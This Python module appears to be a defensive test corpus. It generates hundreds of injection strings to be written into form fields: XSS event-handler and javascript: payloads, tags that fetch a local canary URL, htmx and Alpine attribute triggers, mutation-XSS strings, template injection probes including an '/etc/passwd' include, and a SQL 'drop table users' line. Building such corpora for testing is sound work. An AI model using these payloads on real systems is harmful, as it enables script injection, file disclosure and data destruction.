"""What somebody would write into a field who wants it to run, to be fetched, or to act."""

from itertools import product
from typing import Final

RUN: Final = "__pwn=1"
FAR: Final = "//127.0.0.2:9/__canary"

_EVENTS: Final = (
    "<img src=x onerror={run}>",
    "<img src='x' onerror='{run}'>",
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    "</title><img src=x onerror={run}>",
    "</textarea><img src=x onerror={run}>",
    "</script><script>{run}</script>",
    "</style><script>{run}</script>",
    "<svg onload={run}>",
    "<svg/onload={run}//",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<video src=x onerror={run}>",
    "<audio src=x onerror={run}>",
    "<video><source onerror={run}>",
    "<marquee onstart={run}>",
    "<iframe onload={run}>",
    "<object data=x onerror={run}>",
    "<style onload={run}></style>",
    "<link rel=stylesheet href=x onerror={run}>",
    "<p onpointerenter={run} style=position:fixed;inset:0>",
    '" autofocus onfocus={run} x="',
    "' autofocus onfocus={run} x='",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<a id=x tabindex=1 onfocus={run}></a>",
    "<dialog open onclose={run}><form method=dialog>",
    "<button popovertarget=x onbeforetoggle={run}>",
    "<xss contenteditable autofocus onfocus={run}>",
)
_CODES: Final = ("__pwn=1", "alert(1)", "fetch('/__canary')", "top.__pwn=1")
_LINKS: Final = ("javascript:__pwn=1", "java\tscript:__pwn=1", "java\nscript:__pwn=1", " javascript:__pwn=1")
_LINKED: Final = (
    "{link}",
    "<a href='{link}'>x</a>",
    "<iframe src='{link}'>",
    "<form action='{link}'><button>x",
    "<meta http-equiv=refresh content='0;url={link}'>",
    "[x]({link})",
    "<svg><a xlink:href='{link}'><text>x",
)
_FETCHED: Final = (
    "<img src={far}>",
    "![x](http:{far})",
    "<link rel=stylesheet href={far}>",
    "<link rel=dns-prefetch href={far}>",
    "<link rel=preload as=image href={far}>",
    "<link rel=icon href={far}>",
    "<style>@import '{far}'</style>",
    "<p style=\"background:url('{far}')\">",
    "<iframe src={far}>",
    "<object data={far}>",
    "<embed src={far}>",
    "<video poster={far}>",
    "<base href={far}>",
    "<svg><image href={far}>",
    "<svg><use href={far}#x>",
    "<table background={far}>",
    "<form action={far}><input name=x>",
    "http:{far}",
)
_ACTED: Final = (
    "<div hx-get=/__canary hx-trigger=load>x</div>",
    "<div data-hx-get=/__canary data-hx-trigger=load>x</div>",
    "<div hx-post=/sign-out hx-trigger=load>x</div>",
    '"hx-get="/__canary" hx-trigger="load" x="',
    "<div hx-on:load=__pwn=1>x</div>",
    "<div hx-on::load=__pwn=1>x</div>",
    "<div hx-vals='js:{{x:__pwn=1}}' hx-get=/__canary hx-trigger=load>",
    "<div hx-sse:connect=/__canary>",
    "<hx-partial hx-target=body><script>__pwn=1</script></hx-partial>",
    "<div _='on load set window.__pwn to 1'>",
    "<div x-init=__pwn=1 x-data>",
    "<template><script>__pwn=1</script></template>",
)
_OTHER: Final = (
    "<script>__pwn=1</script>",
    "<ScRiPt>__pwn=1</sCrIpT>",
    "<script src=data:,__pwn=1></script>",
    "<script type=module>__pwn=1</script>",
    "<script\x0c>__pwn=1</script>",
    "<iframe srcdoc='<script>parent.__pwn=1</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=__pwn=1>'>",
    "<svg><style><img src=x onerror=__pwn=1></style>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=__pwn=1 src>'>",
    "&lt;script&gt;__pwn=1&lt;/script&gt;",
    "&#60;script&#62;__pwn=1&#60;/script&#62;",
    "%3Cscript%3E__pwn=1%3C/script%3E",
    "\\u003cscript\\u003e__pwn=1\\u003c/script\\u003e",
    "{{7*7}}{{cycler.__init__.__globals__}}",
    "{% include '/etc/passwd' %}",
    "${7*7}#{7*7}<%=7*7%>",
    "'-__pwn=1-'",
    "';__pwn=1//",
    "\\';__pwn=1//",
    "`${__pwn=1}`",
    "--><script>__pwn=1</script>",
    "]]><script>__pwn=1</script>",
    "<!--><img src=x onerror=__pwn=1>-->",
    "\u2028__pwn=1\u2029",
    "\u202e>1=nwp__<",
    "＜script＞__pwn=1＜/script＞",  # noqa: RUF001 - that is what is tried
    "%(x)s %s %n {0} {x}",
    "'; drop table users; --",
)


def payloads() -> list[str]:
    """All of them, each once."""
    found = [event.format(run=code) for event, code in product(_EVENTS, _CODES)]
    found += [linked.format(link=link) for linked, link in product(_LINKED, _LINKS)]
    found += [fetched.format(far=FAR) for fetched in _FETCHED]
    found += [*_ACTED, *_OTHER]
    return list(dict.fromkeys(found))
